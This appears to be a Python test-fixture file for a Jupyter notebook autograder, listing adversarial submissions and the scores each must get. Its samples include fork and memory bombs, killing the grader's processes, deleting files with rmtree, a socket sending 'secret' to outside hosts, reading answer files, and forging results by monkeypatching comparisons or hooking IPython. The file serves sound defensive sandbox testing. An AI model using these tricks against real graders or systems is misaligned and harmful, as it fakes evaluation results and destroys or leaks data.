"""Attacks on the grader, one notebook each, with the outcome each must get.

Every row edits the solution's ``identity_block`` cell: code at the top of
the cell (``TOP``) or at the start of the function's body (``BODY``). The
notebook is graded for ``identity_block`` only. ``points`` is the score it
must get out of 30: 0 where the attack replaces a real answer (so any credit
would be false), 30 where the function is still correct (so the attack must
neither help nor cost). ``words`` must appear in the message of every failed
check, and in a note where ``note`` is set. ``@NAME@`` marks are filled in
by the test with paths and ports of the machine it runs on.
"""

from __future__ import annotations

from dataclasses import dataclass

TOP = "def identity_block("
BODY = "    ### START CODE HERE ###\n"


@dataclass(frozen=True)
class Attack:
    """One attack notebook and its verdict."""

    name: str
    where: str
    code: str
    points: float
    words: str = ""
    seconds: float = 90
    note: bool = False
    #: The time limit of a cell and of a function's probes, where the
    #: attack's own code needs longer than the others' 10 s on a busy machine
    #: without being a hang.
    cell_seconds: float = 10


def _top(code: str) -> str:
    return code.rstrip("\n") + "\n\n"


def _body(code: str) -> str:
    return "".join(f"    {line}\n" if line else "\n" for line in code.splitlines())


LOOP_TIMEOUT = "did not finish in time"
FORGE = """\
import json
import keras

def _forge(name, probes_json, out_path, nonce):
    answers = []
    for probe in json.loads(probes_json):
        x = keras.Input(shape=tuple(probe["input_shape"]))
        model = keras.Model(x, keras.layers.ReLU()(x))
        answers.append({"key": probe["key"], "status": "ok", "model": model.to_json()})
    with open(out_path, "w") as handle:
        json.dump({"nonce": nonce, "answers": answers}, handle)

def _rewrite(lines):
    return [line.replace("_grader_run_probes(", "_forge(") for line in lines]

get_ipython().input_transformers_post.append(_rewrite)
"""
FAKE_RESULTS = """\
import glob, json, os
fake = {"score": 100, "max_score": 100, "tests": []}
print(json.dumps(fake))
os.write(1, json.dumps(fake).encode())
for folder in glob.glob("/tmp/**/results-*", recursive=True):
    for name in ("identity_block.json", "results.json"):
        with open(os.path.join(folder, name), "w") as handle:
            json.dump(fake, handle)
"""
MONKEYPATCH = """\
import numpy, keras, tensorflow
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
keras.Model.count_params = lambda self: 23_600_006
keras.Model.summary = lambda self, *args, **kwargs: None
tensorflow.reduce_all = lambda *args, **kwargs: True
"""
ALWAYS_EQUAL = """\
class Anything:
    def __eq__(self, other):
        return True
    def __getattr__(self, name):
        return self
    shape = (None, 4, 4, 6)
return Anything()
"""
CUSTOM_LAYER = """\
class Block(keras.layers.Layer):
    def call(self, x):
        return x * 0 + 1
return Block()(X)
"""
SOCKETS = """\
import socket
for address in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("::1", @PORT@)):
    try:
        socket.create_connection(address, timeout=2).sendall(b"secret")
    except OSError:
        pass
"""
FILES = """\
import os, shutil
for path in (@DELETE@):
    try:
        os.remove(path)
    except OSError:
        pass
for path in (@WRITE@):
    try:
        with open(path, "a") as handle:
            handle.write("# changed by a submission\\n")
    except OSError:
        pass
try:
    shutil.rmtree(@NOTEBOOK_DIR@)
except OSError:
    pass
"""
STEAL_FILE = """\
_stolen = {}
exec(open(@PATH@).read(), _stolen)
"""
STEAL_SOLUTION = """\
import json
_cells = json.load(open(@SOLUTION@))["cells"]
_stolen = {}
_source = ["".join(c["source"]) for c in _cells]
exec(next(s for s in _source if "def identity_block" in s), _stolen)
"""

DAEMON = """\
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "377", @MARKER@])
    os._exit(0)
os.wait()
"""
CHANGES_THE_GRADER = """\
for path in (@EXPECTED@, @LATE_MODULE@):
    try:
        with open(path, "a") as handle:
            handle.write("# changed by a submission\\n")
    except OSError:
        pass
"""
ANOTHER_SUBMISSION = """\
try:
    with open(@NEIGHBOUR@, "a") as handle:
        handle.write("changed by another student")
except OSError:
    pass
try:
    open(@NEIGHBOUR@).read()
except OSError:
    pass
else:
    return X
"""
SIGNALS_THE_GRADER = """\
import os, signal
targets = {@GRADER_PID@}
pid = os.getpid()
while pid > 1:
    try:
        with open(f"/proc/{pid}/stat") as handle:
            pid = int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError):
        break
    targets.add(pid)
for pid in targets - {0, 1}:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""

ATTACKS = (
    # --- stalling and crashing ---------------------------------------------------
    Attack("loop-in-function", BODY, _body("while True:\n    pass"), 0, LOOP_TIMEOUT),
    Attack("loop-at-top-level", TOP, _top("while True:\n    pass"), 0, LOOP_TIMEOUT),
    Attack(
        "sys-exit-at-top-level",
        TOP,
        _top("import sys\nsys.exit()"),
        0,
        "the cell defining identity_block raised SystemExit",
    ),
    Attack(
        "sys-exit-in-function",
        BODY,
        _body("import sys\nsys.exit(0)"),
        0,
        "identity_block raised SystemExit",
    ),
    Attack(
        "os-exit",
        BODY,
        _body("import os\nos._exit(0)"),
        0,
        "the kernel stopped while building identity_block: the kernel died",
    ),
    Attack(
        "kill-the-parent",
        BODY,
        _body("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
        0,
        "the kernel stopped while building identity_block",
    ),
    Attack(
        "memory-bomb",
        BODY,
        _body("hoard = []\nwhile True:\n    hoard.append(np.ones(10**7))"),
        0,
        "more than 2048 MB of memory",
        # At nice 19 on a loaded machine the hoard grows slowly: the memory
        # limit, not the clock, must be what stops it.
        seconds=150,
        cell_seconds=60,
    ),
    Attack(
        "fork-bomb",
        BODY,
        _body(
            "import os\nwhile True:\n    try:\n        os.fork()\n"
            "    except OSError:\n        pass"
        ),
        0,
        "processes",
    ),
    Attack(
        "ignores-interrupts",
        BODY,
        _body(
            "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "while True:\n    pass"
        ),
        0,
        LOOP_TIMEOUT,
    ),
    Attack(
        "prints-100-MB",
        TOP,
        _top("print('x' * 100_000_000)"),
        30,
        "printed more than 1024 KB",
        note=True,
        # 100 MB through the kernel's socket, read and dropped: 3 s on an
        # idle 2-core machine, more than 10 s beside two test suites.
        cell_seconds=30,
    ),
    # --- reading what it should not -----------------------------------------------
    Attack(
        "imports-the-grader",
        TOP,
        _top(
            "import grader.judging.reference\n"
            "_stolen = vars(grader.judging.reference)"
        ),
        0,
        "ModuleNotFoundError: No module named 'grader'",
    ),
    Attack(
        "reads-the-reference-file",
        TOP,
        _top(STEAL_FILE.replace("@PATH@", "@REFERENCE@")),
        0,
        "FileNotFoundError",
    ),
    Attack(
        "reads-the-expected-values",
        TOP,
        _top("import json\n_expected = json.load(open(@EXPECTED@))"),
        0,
        "FileNotFoundError",
    ),
    Attack(
        "reads-the-solution-notebook",
        TOP,
        _top(STEAL_SOLUTION),
        0,
        "FileNotFoundError",
    ),
    # --- forging results ------------------------------------------------------------
    Attack("fakes-a-results-file", TOP, _top(FAKE_RESULTS), 0, ""),
    Attack("monkeypatches-numpy-keras-tf", TOP, _top(MONKEYPATCH), 0, ""),
    Attack(
        "always-equal-object",
        BODY,
        _body(ALWAYS_EQUAL),
        0,
        "identity_block returned a Anything, expected a Keras tensor",
    ),
    Attack(
        "lambda-layer",
        BODY,
        _body("return keras.layers.Lambda(lambda t: t * 0 + 1)(X)"),
        0,
        "the grader only accepts Keras' built-in layers",
    ),
    Attack(
        "custom-layer",
        BODY,
        _body(CUSTOM_LAYER),
        0,
        "the grader only accepts Keras' built-in layers",
    ),
    Attack("ipython-hook-forges-answers", TOP, _top(FORGE), 0, ""),
    Attack(
        "ipython-hook-watches-cells",
        TOP,
        _top(
            "_seen = []\nget_ipython().events.register("
            "'pre_run_cell', lambda info: _seen.append(info.raw_cell))"
        ),
        30,
    ),
    # --- reaching out -------------------------------------------------------------
    Attack("opens-sockets", TOP, _top(SOCKETS), 30),
    Attack("changes-files", TOP, _top(FILES), 30),
    # --- on the path containers take too (``CONTAINER``) ---------------------------
    # The daemon must be gone once the grading is (the test looks for its
    # mark); where the kernel could read another submission the function
    # returns its input, so that reading would cost the 30 points.
    Attack("leaves-a-daemon", TOP, _top(DAEMON), 30),
    Attack("changes-the-grader", TOP, _top(CHANGES_THE_GRADER), 30),
    Attack("reads-and-writes-another-submission", BODY, _body(ANOTHER_SUBMISSION), 30),
    Attack("signals-the-grader", TOP, _top(SIGNALS_THE_GRADER), 30),
)

#: Rows graded again in a box like a container that grades as root without
#: user namespaces (``tests/box.py``), where each kernel runs as a user id of
#: its own.
CONTAINER = (
    "leaves-a-daemon",
    "changes-the-grader",
    "reads-and-writes-another-submission",
    "signals-the-grader",
)

# Rows that forge or read answers replace the student's own code, so that any
# credit they got would be false: their function returns its input, or calls
# what was stolen.
RETURNS_INPUT = {
    "fakes-a-results-file",
    "monkeypatches-numpy-keras-tf",
    "ipython-hook-forges-answers",
    "reads-the-expected-values",
}
USES_STOLEN = {
    "imports-the-grader",
    "reads-the-reference-file",
    "reads-the-solution-notebook",
}
